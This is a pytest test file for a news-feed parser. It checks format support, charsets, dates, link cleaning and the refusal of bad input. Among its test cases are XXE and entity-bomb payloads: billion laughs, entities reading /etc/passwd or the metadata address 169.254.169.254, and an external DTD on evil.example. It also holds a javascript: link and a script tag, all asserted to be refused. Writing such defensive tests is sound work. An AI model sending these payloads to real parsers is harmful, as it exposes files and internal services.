"""What feeds hold, and what they are refused for: every sort of bad input."""

import json
import time
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.errors import FeedError
from bot.feeds.cleaning import link, plain, same_link
from bot.feeds.parsing import MOST_ITEMS, FeedItem, Parsed, parse

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
HOME = "https://news.example/feed.xml"
XML = "application/rss+xml"


def rss(*items: str, head: str = "", channel: str = "") -> str:
    """Return an RSS 2.0 feed."""
    inner = f"<title>News</title>{channel}{''.join(items)}"
    return f'{head}<rss version="2.0"><channel>{inner}</channel></rss>'


def item(title: str = "A toad returns", **fields: str) -> str:
    """Return one item of RSS."""
    inner = "".join(f"<{name}>{value}</{name}>" for name, value in fields.items())
    return f"<item><title>{title}</title>{inner}</item>"


def read(text: str | bytes, kind: str = XML) -> Parsed:
    """Return what a feed holds."""
    content = text.encode() if isinstance(text, str) else text
    return parse(content, kind, HOME, NOW)


def only(text: str | bytes, kind: str = XML) -> FeedItem:
    """Return the one item of a feed."""
    [found] = read(text, kind).items
    return found


def refused(text: str | bytes, kind: str = XML) -> str:
    """Return why a feed is refused."""
    with pytest.raises(FeedError) as caught:
        read(text, kind)
    return caught.value.reason


FORMATS = {
    "RSS 0.91": '<rss version="0.91"><channel><title>N</title><item><title>A toad returns</title>'
    "<link>https://news.example/toad</link></item></channel></rss>",
    "RSS 1.0": '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
    ' xmlns="http://purl.org/rss/1.0/">'
    '<item rdf:about="https://news.example/toad"><title>A toad returns</title>'
    "<link>https://news.example/toad</link></item></rdf:RDF>",
    "RSS 2.0": rss(item(link="https://news.example/toad")),
    "Atom": '<feed xmlns="http://www.w3.org/2005/Atom"><title>N</title><entry><id>tag:1</id>'
    "<title>A toad returns</title>"
    '<link href="https://news.example/toad"/><updated>2026-11-20T08:00:00Z</updated></entry></feed>',
    "JSON Feed": json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "items": [
                {"id": 1, "title": "A toad returns", "url": "https://news.example/toad"},
                "no item",
            ],
        }
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", FORMATS)
def test_each_format_is_read(name: str) -> None:
    """RSS 0.9 to 2.0, Atom and JSON Feed give the same item."""
    found = only(FORMATS[name], "")
    assert (found.title, found.url) == ("A toad returns", "https://news.example/toad")


def test_an_item_comes_whole() -> None:
    """Guid, text, link, date in UTC and language are those of the feed."""
    text = rss(
        item(
            guid="g-1",
            description="&lt;p&gt;Forty were counted.&lt;/p&gt;"
            "&lt;p&gt;In &lt;b&gt;Peru&lt;/b&gt; &amp;amp; Chile&lt;/p&gt;",
            link="/toad?utm_source=rss&amp;id=3",
            pubDate="Fri, 20 Nov 2026 22:30:00 -0500",
        ),
        channel="<language>es-pe</language>",
    )
    assert only(text) == FeedItem(
        "https://news.example/g-1",
        "A toad returns",
        "Forty were counted. In Peru & Chile",
        "https://news.example/toad?id=3",
        date(2026, 11, 21),
        "es",
    )


@pytest.mark.parametrize(
    ("given_date", "kept", "reason"),
    [
        ("Thu, 01 Jan 1970 00:00:00 GMT", None, "date-past"),
        ("Sun, 01 Jan 2090 00:00:00 GMT", None, "date-future"),
        ("Mon, 23 Nov 2026 03:00:00 GMT", date(2026, 11, 22), ""),
        ("Tue, 99 Foo 20x6", None, "date-unread"),
        ("9999-12-31T23:59:59-14:00", None, "date-unread"),
        ("0001-01-01T00:00:00+14:00", None, "date-unread"),
    ],
)
def test_dates_that_cannot_be_true_are_left_out(
    given_date: str, kept: date | None, reason: str
) -> None:
    """1970 and 2090 are no dates, with a reason; tomorrow's, where it is already, is today."""
    found = read(rss(item(pubDate=given_date)))
    assert found.items[0].date == kept
    assert set(found.notes) == ({reason} if reason else set())


def accents(charset: str, declared: str = "") -> bytes:
    """Return a feed with accents in one charset that declares another."""
    head = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    return rss(item("Más allá"), head=head).encode(charset)


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (accents("utf-8", "iso-8859-1"), "text/xml"),
        (accents("latin-1", "utf-8"), "text/xml"),
        (accents("utf-8", "nonsense"), "text/xml; charset=klingon"),
        (accents("cp1252", "windows-1252"), "text/xml"),
        (accents("latin-1"), "text/xml; charset=utf-8"),
        (accents("utf-16"), "text/xml; charset=utf-8"),
        (accents("utf-16-le"), "text/xml"),
        (accents("utf-8-sig"), "text/xml; charset=us-ascii"),
    ],
)  # fmt: skip
def test_wrong_charsets_are_seen_through(content: bytes, kind: str) -> None:
    """Whatever is claimed, accents come out right."""
    assert only(content, kind).title == "Más allá"


def test_broken_xml_gives_what_can_be_read() -> None:
    """A stray sign does not cost the items; what holds none is refused."""
    assert len(read(rss(item("A & B"), item("C"), channel="<x>")).items) == 2
    assert len(read(rss(item("A"), item("B"))[:-22]).items) == 2
    assert read(rss(item("\x00A\x08 toad")).encode()).items[0].title == "A toad"
    assert refused("<rss version='2.0'><channel><title>x") in {"broken", "not-a-feed"}


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "empty"),
        ("   \n", "empty"),
        ("<!DOCTYPE html><html><body>Not found</body></html>", "html"),
        ("<!-- x -->\n<HTML><head></head></HTML>", "html"),
        ("Service unavailable", "not-a-feed"),
        ("<note><to>A</to></note>", "not-a-feed"),
        ("{", "broken"),
        ('{"a": ' + "[" * 100_000, "broken"),
        ('{"items": []}', "not-a-feed"),
        ('{"version": "https://jsonfeed.org/version/1", "items": {}}', "not-a-feed"),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xff", "not-a-feed"),
        (b"\x1f\x8b\x08\0\0\0\0", "not-a-feed"),
    ],
)
def test_what_is_no_feed_is_refused(text: str | bytes, reason: str) -> None:
    """Each with the reason that an editor reads."""
    assert refused(text) == reason


def bomb(entities: str) -> str:
    """Return a feed with entities declared."""
    return rss(item("&a;"), head=f'<?xml version="1.0"?><!DOCTYPE rss [{entities}]>')


@pytest.mark.parametrize(
    "entities",
    [
        '<!ENTITY z "ha"><!ENTITY y "&z;&z;"><!ENTITY a "&y;&y;">',
        f'<!ENTITY a "{"x" * 50_000}">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY a SYSTEM "http://169.254.169.254/">',
        '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',
    ],
)
@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
def test_entity_bombs_are_refused(entities: str, charset: str) -> None:
    """Entities that grow, or that fetch, are not looked at, however they are written down."""
    assert refused(bomb(entities).encode(charset)) == "entities"


def test_entities_for_one_sign_are_fine() -> None:
    """Old feeds declare the names of accented letters."""
    assert only(bomb('<!ENTITY a "&#233;">')).title == "é"


def test_billion_laughs_is_refused_at_once() -> None:
    """The whole bomb costs no time."""
    laughs = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1 or chr(0)};" * 10}">'.replace("\0", "")
        for n in range(1, 10)
    )
    began = time.monotonic()
    assert refused(bomb(laughs)) == "entities"
    assert time.monotonic() - began < 5


def test_the_newest_of_too_many_are_read() -> None:
    """Of 50,000 items the newest 200 are taken, wherever they stand, and the rest is told."""
    old = item("old", pubDate="Wed, 01 Jan 2020 00:00:00 GMT") * 300
    text = rss(
        item("future", pubDate="Sun, 01 Jan 2090 00:00:00 GMT"),
        old,
        *(item(f"n{number}", guid=f"g{number}") for number in range(49_500)),
        item("newest", guid="newest", pubDate="Sun, 22 Nov 2026 11:00:00 GMT"),
    )
    found = read(text)
    assert len(found.items) == MOST_ITEMS
    assert found.notes["too-many"] == 49_802 - MOST_ITEMS
    assert "old" not in {entry.title for entry in found.items}


def test_titles_are_cut_and_bare() -> None:
    """Titles of 10,000 characters, markup and scripts become one line of bounded length."""
    assert len(only(rss(item("word " * 2000))).title) <= 300
    assert (
        only(rss(item("&lt;b&gt;A&lt;/b&gt; &lt;script&gt;x()&lt;/script&gt;toad"))).title
        == "A toad"
    )
    assert (
        only(rss(item("<![CDATA[<a href='x'>A</a>\n toad &amp; a &lt;b&gt;]]>"))).title
        == "A toad & a <b>"
    )
    assert only(rss(item("1 &lt; 2\u202e!"))).title == "1 < 2 !"


def test_an_item_without_title_takes_its_words() -> None:
    """Short messages have no titles; what has no words at all is passed over."""
    found = read(rss("<item><description>Forty toads</description></item>", "<item></item>"))
    assert [entry.title for entry in found.items] == ["Forty toads"]
    assert found.notes == {"no-title": 1}


def test_the_same_guid_twice_is_one() -> None:
    """An item that stands twice in a feed is taken once."""
    found = read(rss(item("A", guid="1"), item("B", guid="1"), item("C", guid="x" * 5000)))
    assert [entry.title for entry in found.items] == ["A", "C"]
    assert found.notes == {"twice": 1}
    assert len(found.items[1].guid) == 64


@pytest.mark.parametrize(
    ("value", "kept"),
    [
        ("../a", "https://news.example/a"),
        ("?p=1", "https://news.example/b/c?p=1"),
        ("//other.example/x", "https://other.example/x"),
        ("HTTPS://News.Example:443/x#top", "https://news.example/x"),
        ("https://news.example/x?utm_source=a&fbclid=b", "https://news.example/x"),
        ("https://news.example/x?a=1&UTM_medium=b&b=", "https://news.example/x?a=1&b="),
        ("https://news.example/x?a=b+c%20d", "https://news.example/x?a=b+c%20d"),
        ("javascript:alert(1)", ""),
        ("mailto:a@b.example", ""),
        ("https://user:pass@news.example/", ""),
        ("http://[::1", ""),
        ("http://x:99999/", ""),
    ],
)
def test_links_are_absolute_and_canonical(value: str, kept: str) -> None:
    """Relative links are completed, counting marks taken off, other schemes left out."""
    assert link(value, "https://news.example/b/c") == kept


def test_pages_are_told_apart_by_their_address() -> None:
    """The scheme, "www." and a last slash make no other page; a front page is none."""
    assert same_link("https://www.a.example/x/") == same_link("http://a.example/x")
    assert same_link("https://a.example/x?p=1") != same_link("https://a.example/x?p=2")
    assert same_link("https://a.example/") == ""


@given(st.binary(max_size=300) | st.text(max_size=300).map(str.encode))
def test_any_bytes_are_read_or_refused(content: bytes) -> None:
    """Nothing from outside raises anything but a FeedError."""
    for given_content in (content, rss(item("X")).encode().replace(b"X", content)):
        try:
            read(given_content)
        except FeedError as error:
            assert error.reason  # noqa: PT017  # any of them is fine


@given(st.text(max_size=400))
def test_any_text_becomes_a_plain_line(value: str) -> None:
    """No control signs, no line breaks, never longer than asked."""
    line = plain(value, 60)
    assert len(line) <= 60
    assert "\n" not in line
    assert line.isprintable()


def test_words_of_any_type_in_json_do_no_harm() -> None:
    """Fields of wrong types are as if they were not there."""
    values: list[Any] = [None, 1, [], {}, True, "x"]
    rows = [
        {"id": value, "title": value, "url": value, "date_published": value} for value in values
    ]
    text = json.dumps({"version": "https://jsonfeed.org/version/1", "items": rows})
    assert {entry.title for entry in read(text).items} == {"1", "True", "x"}
